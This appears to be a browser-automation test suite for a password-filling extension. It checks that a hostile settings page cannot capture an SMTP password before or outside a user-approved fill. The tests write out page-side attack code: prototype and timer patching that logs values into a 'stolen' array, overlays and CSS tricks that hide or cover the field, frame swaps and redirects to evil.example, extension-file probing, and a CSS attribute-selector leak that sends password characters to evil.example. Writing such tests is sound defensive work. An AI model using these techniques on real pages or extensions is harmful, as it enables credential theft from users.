/**
 * A settings page that is out for the password. What it may have is what the user presses Fill for: the value of the one
 * field that was planned, seen by the user. It gets nothing before, nothing elsewhere, nothing unseen.
 */
import type {Page} from 'puppeteer-core';
import {beforeEach, describe, expect, it} from 'vitest';
import {openPopup, type PopupView, popupWhere, press, until} from './harness';
import {launchForAll} from './harness/for-all';
import {hold, PASSWORD} from './harness/hold';

const SITE = 'https://settings.example';
const EVIL = 'https://evil.example';

const PASSWORD_ROW = '<p id="row"><label>SMTP password <input type="password" name="pass"></label>';
const form = (password = PASSWORD_ROW) => `
  <h1>Mail settings</h1>
  <form id="form" onsubmit="return false">
    <p><label>SMTP host <input name="host" value="localhost"></label>
    <p><label>SMTP port <input name="port" value="25"></label>
    <p><label>SMTP username <input name="user" value="admin"></label>
    ${password}
    <p><label>From address <input name="from"></label>
    <p><button>Save</button>
  </form>
  <p><label>Search this site <input id="thief"></label>`;

let page: Page;
let html = '';
/** What was asked of the attacker's own server. */
let asked: string[] = [];

const postkey = launchForAll(async (started) => {
  await started.serve(SITE, ({pathname}) => (pathname === '/' ? html : pathname === '/frame' ? form() : null));
  await started.serve(EVIL, (url) => {
    asked.push(url.href);
    return '<!doctype html><title>Elsewhere</title><input name="pass" type="password">';
  });
});
beforeEach(async () => {
  asked = [];
  await hold(postkey);
});

async function open(markup: string): Promise<void> {
  html = `<!doctype html><title>Settings</title>${markup}`;
  page = await postkey.open(`${SITE}/`);
}

const planOf = async () => {
  const popup = await openPopup(postkey, page);
  const plan = await popupWhere(popup, 'a plan', ({verdict, canFill}) => verdict === 'smtp' && canFill);
  return {popup, plan};
};

/** Presses Fill and waits for what came of it: a report, or a sentence that nothing was filled. */
async function fill(popup: Page): Promise<PopupView> {
  await press(popup, 'fill');
  return popupWhere(popup, 'what came of it', ({report, text}) => report.length > 0 || /nothing was filled/i.test(text));
}

const passwordOutcome = ({report}: PopupView) => report.find(({role}) => role === 'smtp-password')?.outcome ?? 'nothing was filled';

/**
 * Where the password stands in the page, read in a world of its own: names of fields, by frame. `markup`, `stolen` and
 * `asked` are the attacker's: what stands in the markup, in the page's own global `stolen`, and in requests to its server.
 */
async function places(): Promise<string[]> {
  const found: string[] = [];
  const session = await page.createCDPSession();
  const {frameTree} = await session.send('Page.getFrameTree');
  const frames = [frameTree, ...(frameTree.childFrames ?? [])];
  for (const [index, {frame}] of frames.entries()) {
    const {executionContextId} = await session.send('Page.createIsolatedWorld', {frameId: frame.id});
    const expression = `(() => {
      const inputs = [...document.querySelectorAll('*')].flatMap((one) => [one, ...(one.shadowRoot?.querySelectorAll('*') ?? [])]).filter((one) => one instanceof HTMLInputElement || one instanceof HTMLTextAreaElement);
      const names = inputs.filter((one) => one.value.includes(${JSON.stringify(PASSWORD)})).map((one) => Element.prototype.getAttribute.call(one, 'name') || one.id);
      return JSON.stringify([...names, ...((document.documentElement?.outerHTML + document.title + location.href).includes(${JSON.stringify(PASSWORD)}) ? ['markup'] : [])]);
    })()`;
    const {result} = await session.send('Runtime.evaluate', {contextId: executionContextId, expression});
    found.push(...(JSON.parse(String(result.value)) as string[]).map((name) => (index === 0 ? name : `frame: ${name}`)));
  }
  await session.detach();
  const stolen = await page.evaluate(() => String((window as unknown as {stolen?: unknown[]}).stolen));
  if (stolen.includes(PASSWORD)) found.push('stolen');
  if (asked.join().includes(PASSWORD)) found.push('asked');
  return found;
}

/** The attacker's notebook: every patched function writes its arguments into `stolen`. */
const NOTE = `window.stolen = []; const note = (...things) => { for (const thing of things) try { stolen.push(typeof thing === 'object' && thing ? Object.values(thing).join() : typeof thing === 'symbol' ? '' : '' + thing); } catch {} };`;
const script = (code: string) => `<script>${NOTE}${code}</script>`;

describe('before Fill is pressed, a page gets nothing by', () => {
  it.each<[string, string]>([
    ['events that it makes up', `for (const type of ['keydown', 'keyup']) dispatchEvent(new KeyboardEvent(type, {key: 'P', code: 'KeyP', altKey: true, shiftKey: true, bubbles: true})); for (const one of document.querySelectorAll('*')) { one.click?.(); one.focus?.(); one.dispatchEvent(new MouseEvent('contextmenu', {bubbles: true})); }`],
    ['messages to its own window', `for (const name of ['popup-bg-reveal', 'popup-bg-fill', 'popup-bg-held', 'guide-bg-capture']) { postMessage({name, data: {id: 'test'}}, '*'); dispatchEvent(new CustomEvent(name, {detail: {id: 'test'}})); dispatchEvent(new MessageEvent('message', {data: {name, data: {}}})); } addEventListener('message', (event) => note(event.data));`],
    ['messages to the extension', `try { chrome.runtime.sendMessage('EXTENSION', {name: 'popup-bg-held', data: {incognito: false}}, (answer) => note(JSON.stringify(answer))); chrome.runtime.connect('EXTENSION').onMessage.addListener(note); } catch (error) { stolen.push('refused: ' + error); }`],
    ['a form agent of its own in the page’s world', `window.__postkeyFormAgent = {scan() { note('scan'); return {}; }, fill(order) { note(JSON.stringify(order)); return {}; }, undo() {}, focusedKey() { return 'f1'; }, highlight() {}}; Object.defineProperty(window, '__postkeyTexts', {set: note, get() { note('read'); }});`],
  ])('%s', async (_what, attack) => {
    await open(form() + script(attack.replaceAll('EXTENSION', postkey.extensionId)));
    expect(postkey.browser.targets().some((target) => target.url().includes('popup.html'))).toBe(false);
    await planOf();
    expect(await places()).toEqual([]);
  });

  it('files of the extension: none answers, so that it cannot even be told whether it is there', async () => {
    await open(form());
    const probes = await page.evaluate(async (id) => {
      const files = ['manifest.json', 'popup.html', 'popup.js', 'form.js', 'guide.js', 'icons/16.png', '_locales/en/messages.json'];
      const load = (tag: 'script' | 'img' | 'link', file: string) =>
        new Promise<boolean>((done) => {
          const element = document.createElement(tag);
          Object.assign(element, {onload: () => done(true), onerror: () => done(false), rel: 'stylesheet', [tag === 'link' ? 'href' : 'src']: `chrome-extension://${id}/${file}`});
          document.head.append(element);
        });
      const asks = files.flatMap((file) => [fetch(`chrome-extension://${id}/${file}`).then(() => true, () => false), load('script', file), load('img', file), load('link', file)]);
      return (await Promise.all(asks)).filter(Boolean).length;
    }, postkey.extensionId);
    expect(probes).toBe(0);
  });

  it.each([
    ['in a frame', `document.body.append(Object.assign(document.createElement('iframe'), {src: 'ADDRESS'}))`],
    ['in a window', `window.open('ADDRESS')`],
    ['in an object', `document.body.append(Object.assign(document.createElement('object'), {data: 'ADDRESS'}))`],
  ])('the popup’s page %s: it does not load', async (_where, code) => {
    await open(form());
    await page.evaluate(code.replace('ADDRESS', `chrome-extension://${postkey.extensionId}/popup.html`));
    await page.evaluate(() => new Promise((done) => setTimeout(done, 300)));
    // The browser names the address, and shows its own page of errors.
    const windows = postkey.browser.targets().filter((target) => target.url().includes('/popup.html') && target.type() === 'page');
    for (const target of windows) {
      const shown = await target.asPage();
      expect(await shown.evaluate(() => location.href)).toBe('chrome-error://chromewebdata/');
      await shown.close();
    }
    expect(page.frames().filter((frame) => frame.url().includes('/popup.html'))).toEqual([]);
  });
});

describe('a page that hides the field once it was planned gets no password: it', () => {
  it.each([
    ['makes the whole page transparent', `document.documentElement.style.opacity = '0.01'`],
    ['makes its body transparent', `document.body.style.opacity = '0'`],
    ['fades it a little at each of five levels', `let one = document.querySelector('[name=pass]'); for (let n = 0; n < 5 && one; n++, one = one.parentElement) one.style.opacity = '0.7'`],
    ['takes it away by a filter', `document.getElementById('row').style.filter = 'opacity(0)'`],
    ['masks it', `document.getElementById('row').style.maskImage = 'linear-gradient(transparent, transparent)'`],
    ['cuts it away as a circle', `document.getElementById('row').style.clipPath = 'circle(0)'`],
    ['cuts it away as a polygon', `document.querySelector('[name=pass]').style.clipPath = 'polygon(0 0, 0 0, 0 0)'`],
    ['shrinks it', `document.getElementById('row').style.transform = 'scale(.01)'`],
    ['turns it edge on', `document.getElementById('row').style.transform = 'rotateX(90deg)'`],
    ['zooms it away', `document.getElementById('row').style.zoom = '.01'`],
    ['keeps its content from being drawn', `document.getElementById('row').style.contentVisibility = 'hidden'`],
    ['moves it into a box of no height', `const box = document.createElement('div'); box.style.cssText = 'height:0;overflow:hidden'; document.getElementById('row').replaceWith(box); box.append(Object.assign(document.createElement('label'), {textContent: 'SMTP password '})); `],
    ['lays a popover over everything', `const over = Object.assign(document.createElement('div'), {popover: 'manual'}); over.style.cssText = 'inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff'; document.body.append(over); over.showPopover()`],
    ['lays a popover over everything that lets clicks through', `const over = Object.assign(document.createElement('div'), {popover: 'manual'}); over.style.cssText = 'inset:0;width:100vw;height:100vh;margin:0;border:0;background:#fff;pointer-events:none'; document.body.append(over); over.showPopover()`],
    ['opens a modal dialog over everything', `const over = document.createElement('dialog'); over.style.cssText = 'inset:0;width:100vw;height:100vh;max-width:none;max-height:none;margin:0;border:0;background:#fff'; document.body.append(over); over.showModal()`],
    ['paints over it with the box of a neighbour', `document.body.insertAdjacentHTML('beforeend', '<style>h1::after{content:"";position:fixed;inset:0;background:#fff;z-index:9}</style>')`],
    ['covers it with a frame', `const over = document.createElement('iframe'); over.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;background:#fff'; document.body.append(over)`],
    ['disables it with its fieldset', `const set = document.createElement('fieldset'); set.disabled = true; const row = document.getElementById('row'); row.replaceWith(set); set.append(row)`],
  ])('%s', async (_what, attack) => {
    await open(form());
    const {popup} = await planOf();
    await page.evaluate(`{${attack}}`);
    expect(passwordOutcome(await fill(popup))).not.toBe('filled');
    expect(await places()).toEqual([]);
  });

  it('hides the frame that it stands in', async () => {
    await open('<p>Settings</p><iframe id="inner" src="/frame" width="700" height="500"></iframe>');
    const {popup} = await planOf();
    await page.evaluate(`document.getElementById('inner').style.opacity = '0'`);
    expect(passwordOutcome(await fill(popup))).not.toBe('filled');
    expect(await places()).toEqual([]);
  });
});

describe('a page that puts something else in the place of what was planned gets no password: it', () => {
  it.each([
    ['swaps the frame’s document', `document.getElementById('inner').srcdoc = '<label>SMTP password <input type="password" name="pass"></label>'`],
    ['swaps the frame for another', `const other = document.createElement('iframe'); other.src = '/frame'; document.getElementById('inner').replaceWith(other)`],
    ['sends the frame elsewhere', `document.getElementById('inner').src = '${EVIL}/'`],
  ])('%s', async (_what, attack) => {
    await open('<p>Settings</p><iframe id="inner" src="/frame" width="700" height="500"></iframe>');
    const {popup} = await planOf();
    await page.evaluate(`{${attack}}`);
    await page.waitForNetworkIdle({idleTime: 100});
    expect(passwordOutcome(await fill(popup))).toBe('nothing was filled');
    expect(await places()).toEqual([]);
  });

  it.each([
    ['moves the field into a frame of its own', `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentDocument.body.append(document.querySelector('[name=pass]'))`],
    ['moves it under another label', `document.getElementById('thief').parentElement.append(document.querySelector('[name=pass]'))`],
    ['writes the document anew', `document.open(); document.write('<label>SMTP password <input type="password" name="pass"></label><label>Comment <input name="comment"></label>'); document.close()`],
    ['goes elsewhere as soon as a field is touched', `addEventListener('focusin', () => { location.href = '${EVIL}/'; }, {once: true})`],
    ['turns it into a box that shows what is typed', `document.querySelector('[name=pass]').type = 'text'; document.querySelector('[name=pass]').name = 'comment'`],
  ])('%s', async (_what, attack) => {
    await open(form());
    const {popup} = await planOf();
    await page.evaluate(`{${attack}}`);
    await fill(popup);
    expect((await places()).filter((place) => place !== 'pass')).toEqual([]);
  });

  it('opens another tab in front of itself', async () => {
    await open(form());
    await planOf();
    await postkey.open(`${EVIL}/`);
    // The popup belongs to the tab that was in front, and goes with it.
    await until(async () => (postkey.browser.targets().some((target) => target.url().includes('popup.html')) ? null : true), 'the popup to close');
    expect(await places()).toEqual([]);
  });
});

describe('the password goes into its field and nowhere else on a page that', () => {
  const patched = script(`
    for (const [owner, name] of [[HTMLInputElement.prototype, 'value'], [Element.prototype, 'textContent'], [Node.prototype, 'textContent'], [InputEvent.prototype, 'data']]) {
      const {get, set} = Object.getOwnPropertyDescriptor(owner, name) ?? {};
      if (get) Object.defineProperty(owner, name, {configurable: true, get() { return get.call(this); }, set(text) { note(text); return set?.call(this, text); }});
    }
    for (const owner of [Array.prototype, String.prototype, Map.prototype, WeakMap.prototype, Promise.prototype, Function.prototype, JSON, Object, EventTarget.prototype, Document.prototype])
      for (const name of Object.getOwnPropertyNames(owner)) {
        const {value, writable} = Object.getOwnPropertyDescriptor(owner, name) ?? {};
        if (typeof value !== 'function' || !writable || ['constructor', 'push', 'call', 'apply', 'bind', 'toString', 'join', 'values', 'execCommand'].includes(name)) continue;
        owner[name] = function (...args) { note(...args); return value.apply(this, args); };
      }`);

  it.each<[string, string]>([
    ['patched every prototype before', patched],
    ['set traps on Object.prototype', script(`for (const name of ['secret', 'password', 'steps', 'value', 'then', 'toJSON', 'scanId']) Object.defineProperty(Object.prototype, name, {configurable: true, set: note, get() { note('read'); return undefined; }});`)],
    ['patched timers, frames and observers', script(`for (const name of ['setTimeout', 'requestAnimationFrame', 'queueMicrotask', 'postMessage', 'structuredClone']) { const real = window[name]; window[name] = (...args) => { note(...args); return real.apply(window, args); }; } for (const name of ['MutationObserver', 'IntersectionObserver']) { const Real = window[name]; window[name] = class extends Real { constructor(act, options) { super((...args) => { note(...args); act(...args); }, options); } }; }`)],
    ['patched attachShadow and focus', script(`const real = Element.prototype.attachShadow; Element.prototype.attachShadow = function (init) { const root = real.call(this, {...init, mode: 'open'}); note(root.innerHTML); return root; }; HTMLElement.prototype.focus = function () { document.getElementById('thief').focus(); };`)],
    ['names its fields after properties', '<style>.n{display:none}</style><script>addEventListener("DOMContentLoaded", () => { for (const name of ["children", "parentElement", "parentNode", "getAttribute", "querySelectorAll", "labels", "type", "elements", "ownerDocument"]) form.append(Object.assign(document.createElement("input"), {name, className: "n"})); });</script>'],
    ['names its fields after what documents have', '<img name="querySelectorAll"><img name="createTreeWalker"><img name="getElementById"><form name="execCommand"></form><form name="activeElement"></form><img name="body">'],
    ['moves the focus at every key', script(`addEventListener('keydown', () => document.getElementById('thief').focus(), true);`)],
    ['moves the focus before every input', script(`addEventListener('beforeinput', () => document.getElementById('thief').focus(), true);`)],
    ['selects the text of another field', script(`document.addEventListener('selectionchange', () => document.getElementById('thief')?.select());`)],
    ['has a second field of that name that nobody sees', '<input type="password" name="pass2" style="position:absolute;left:-9999px"><input type="password" name="pass2" style="opacity:0;position:absolute">'],
    ['reads attributes by style sheet', `<style>${[...'bcdfghjklmnpqrstvwxyz'].map((letter) => `input[name=pass][value^="${letter}"]{background:url(${EVIL}/${letter})}`).join('')}</style>`],
    ['has a base address elsewhere', `<base href="${EVIL}/">`],
    ['grows without end', script(`setInterval(() => { const box = document.createElement('div'); for (let n = 0; n < 200; n++) box.append(document.createElement('p')); box.hidden = true; document.body?.append(box); }, 20);`)],
    ['changes every attribute without end', script(`setInterval(() => { for (const one of document.querySelectorAll('input')) one.setAttribute('data-now', performance.now()); }, 5);`)],
  ])('%s', async (_what, attack) => {
    await open(attack + form());
    const {popup} = await planOf();
    expect(passwordOutcome(await fill(popup))).toBe('filled');
    expect(await places()).toEqual(['pass']);
    expect(asked.filter((url) => url !== `${EVIL}/`)).toEqual([]);
  });
});
